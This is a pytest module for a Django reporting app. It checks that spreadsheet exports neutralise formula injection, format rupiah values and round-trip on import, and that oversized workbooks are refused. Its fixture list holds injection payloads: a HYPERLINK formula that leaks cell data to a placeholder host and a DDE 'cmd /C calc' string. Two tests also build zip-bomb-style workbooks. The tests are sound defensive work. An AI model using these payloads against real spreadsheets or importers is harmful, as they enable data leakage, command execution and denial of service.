"""Spreadsheets that can be trusted: users' text never becomes a formula, money is shown as
rupiah, an export imports back unchanged, and hostile workbooks are refused before they are
unpacked (issue 9 item 5, issue 12 item 5)."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from programs.choices import (
    MAX_IMPORT_SHARED_STRINGS,
    MAX_IMPORT_UNPACKED_MB,
    LegalBasisLevel,
    ReportStatus,
)
from programs.excel.sheets import FORMULA_STARTS, import_columns
from programs.models import Dimension, Element, Program
from tests.factories import ProgramFactory
from tests.programs.conftest import make_report
from tests.programs.factories import xlsx_bytes

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+62 812 3456", "-20% dari target",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\uff1dSUM(A1)"]


def sheet_xml_formulas(content: bytes) -> list[str]:
    """Every <f> (formula) element of every sheet of the workbook, read from its XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return [formula for name in package.namelist() if name.startswith("xl/worksheets/")
                for formula in re.findall(rb"<f[ >].*?</f>", package.read(name))]


def text_cells(content: bytes) -> dict[str, object]:
    workbook = load_workbook(io.BytesIO(content))
    return {cell.value: cell for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if isinstance(cell.value, str)}


@pytest.fixture
def hostile_programs(world, period):
    world.agency.short_name = HOSTILE[3]
    world.agency.save()
    programs = [ProgramFactory(regency=world.regency, agency=world.agency, code=f"H-{n}",
                               name=text, partners=HOSTILE[(n + 1) % len(HOSTILE)],
                               description=HOSTILE[(n + 2) % len(HOSTILE)], legal_basis=text)
                for n, text in enumerate(HOSTILE)]
    for program in programs:
        make_report(program, period, ReportStatus.VERIFIED, physical_progress=40,
                    achievements=program.name, obstacles=HOSTILE[0], review_comment=HOSTILE[2])
    return programs


@pytest.mark.parametrize("url_name", ["programs:export", "programs:report_export",
                                      "programs:import_template"])
def test_users_text_is_written_as_text_never_as_a_formula(world, hostile_programs, url_name):
    response = world.client_for(world.secretariat).get(reverse(url_name,
                                                               args=[world.regency.slug]))
    assert response.status_code == 200
    assert sheet_xml_formulas(response.content) == []
    cells = text_cells(response.content)
    written = [text for text in HOSTILE if text in cells]
    assert written, "the export holds none of the hostile texts"
    for text in written:
        cell = cells[text]
        assert cell.data_type == "s", text
        assert cell.quotePrefix == text.startswith(FORMULA_STARTS), text


def test_money_is_a_number_shown_as_rupiah(world, hostile_programs):
    client = world.client_for(world.secretariat)
    slug = world.regency.slug
    programs = load_workbook(io.BytesIO(client.get(reverse("programs:export",
                                                           args=[slug])).content)).active
    headers = [c.value for c in programs[1]]
    budget = programs.cell(row=2, column=headers.index("Pagu anggaran (Rp)") + 1)
    assert budget.value == 100_000_000
    assert budget.number_format == '"Rp" #,##0'
    reports = load_workbook(io.BytesIO(client.get(reverse("programs:report_export",
                                                          args=[slug])).content)).active
    headers = [c.value for c in reports[1]]
    realised = reports.cell(row=2, column=headers.index("Realisasi anggaran (Rp)") + 1)
    assert isinstance(realised.value, int)
    assert realised.number_format == '"Rp" #,##0'


def _import(client, slug, content: bytes):
    return client.post(reverse("programs:import", args=[slug]),
                       {"file": SimpleUploadedFile("program.xlsx", content)})


def test_an_export_imports_back_unchanged_and_an_edited_row_updates_its_program(world):
    governance, society = Dimension.objects.order_by("order")[:2]
    element = Element.objects.filter(dimension=governance).first()
    first = ProgramFactory(regency=world.regency, agency=world.agency, code="RT-1",
                           name="Satu, dua", dimensions=[governance, society],
                           legal_basis_level=LegalBasisLevel.NONE, partners="IT Del")
    first.elements.set([element])
    ProgramFactory(regency=world.regency, agency=world.other_agency, code="RT-2",
                   name="Kedua — ñ", legal_basis_level=LegalBasisLevel.REGENT,
                   legal_basis="Perbup 12/2024", description="baris satu\nbaris dua")
    before = {p.code: (p.version, p.updated_at) for p in Program.objects.all()}
    client = world.client_for(world.secretariat)
    slug = world.regency.slug
    exported = client.get(reverse("programs:export", args=[slug])).content

    response = _import(client, slug, exported)
    assert response.status_code == 302, response.context and [
        str(p) for p in response.context["problems"]]
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "Impor selesai: 0 program baru, 0 diperbarui, 2 tidak berubah."]
    assert {p.code: (p.version, p.updated_at) for p in Program.objects.all()} == before

    workbook = load_workbook(io.BytesIO(exported))
    sheet = workbook.active
    headers = [c.value for c in sheet[1]]
    sheet.cell(row=2, column=headers.index("Nama program") + 1, value="Satu, dua (baru)")
    sheet.append(["RT-3", "Program baru", "Dinkes", "Smart Society", "", "Aplikasi / layanan",
                  "Quick win", "", 2025, 2026, 5000])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = _import(client, slug, buffer.getvalue())
    assert response.status_code == 302
    assert [str(m) for m in get_messages(response.wsgi_request)][-1] == (
        "Impor selesai: 1 program baru, 1 diperbarui, 1 tidak berubah.")
    first.refresh_from_db()
    assert (first.name, first.version) == ("Satu, dua (baru)", before["RT-1"][0] + 1)
    assert set(first.dimensions.all()) == {governance, society}
    assert list(first.elements.all()) == [element]


def test_an_opd_cannot_overwrite_another_agencys_program_by_its_code(world):
    theirs = ProgramFactory(regency=world.regency, agency=world.other_agency, code="DK-1",
                            name="Milik Dinkes")
    content = xlsx_bytes([[c.header for c in import_columns()],
                          ["DK-1", "Diambil alih", "Kominfo", "Smart Society", "",
                           "Aplikasi / layanan", "Quick win", "", 2025, 2026, 0]]).getvalue()
    response = _import(world.client_for(world.opd), world.regency.slug, content)
    assert response.status_code == 400
    assert "program itu tidak dapat Anda ubah" in str(response.context["problems"][0])
    theirs.refresh_from_db()
    assert theirs.name == "Milik Dinkes"


# --- hostile workbooks ----------------------------------------------------------------------

def _with_member(name: str, data: bytes) -> bytes:
    """A valid template-shaped workbook with one member replaced (or added), deflated."""
    base = xlsx_bytes([[c.header for c in import_columns()]]).getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            if item.filename != name:
                target.writestr(item, source.read(item.filename))
        target.writestr(name, data)
    return out.getvalue()


def test_a_workbook_with_millions_of_shared_strings_is_refused_before_it_is_read(world):
    count = 2_000_000
    strings = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats'
               b'.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (count, count)
               + b"<si><t>a</t></si>" * count + b"</sst>")
    content = _with_member("xl/sharedStrings.xml", strings)
    assert len(content) < 200_000  # small on disk: far below the 10 MB upload limit
    response = _import(world.client_for(world.secretariat), world.regency.slug, content)
    assert response.status_code == 400
    page = response.content.decode()
    assert "terlalu besar untuk diimpor" in page
    assert f"{MAX_IMPORT_SHARED_STRINGS:,}".replace(",", ".") in page
    assert not Program.objects.exists()


def test_a_workbook_that_unpacks_past_the_limit_is_refused(world):
    row = (b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + b"x" * 1000 + b"</t></is></c></row>")
    sheet = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
             b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             + row * (MAX_IMPORT_UNPACKED_MB * 1100) + b"</sheetData></worksheet>")
    content = _with_member("xl/worksheets/sheet1.xml", sheet)
    response = _import(world.client_for(world.secretariat), world.regency.slug, content)
    assert response.status_code == 400
    assert f"paling banyak {MAX_IMPORT_UNPACKED_MB} MB" in response.content.decode()
    assert not Program.objects.exists()


def test_a_real_template_of_two_thousand_rows_imports(world):
    rows = [[f"B-{n:04d}", f"Program ke-{n}, tahap {n % 7}", "Kominfo" if n % 2 else "Dinkes",
             "Smart Governance, Smart Society", "", "Aplikasi / layanan", "Quick win",
             "Berjalan", 2025, 2027, 1_250_000 + n, "APBD", "", "", "", f"Mitra {n}",
             f"Uraian program {n}."] for n in range(2000)]
    content = xlsx_bytes([[c.header for c in import_columns()], *rows]).getvalue()
    response = _import(world.client_for(world.secretariat), world.regency.slug, content)
    assert response.status_code == 302, response.context and [
        str(p) for p in response.context["problems"]][:3]
    assert Program.objects.filter(regency=world.regency).count() == 2000
    assert Program.objects.get(code="B-1999").planned_budget == 1_251_999
